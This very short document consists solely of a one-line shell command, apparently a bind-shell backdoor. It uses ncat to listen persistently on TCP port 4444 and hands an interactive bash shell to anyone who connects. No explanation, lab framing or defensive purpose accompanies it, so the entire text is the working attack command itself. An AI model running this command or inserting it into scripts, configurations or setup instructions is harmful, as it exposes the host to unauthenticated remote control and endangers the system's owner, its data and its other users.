ncat -lk 4444 --sh-exec 'bash -i'
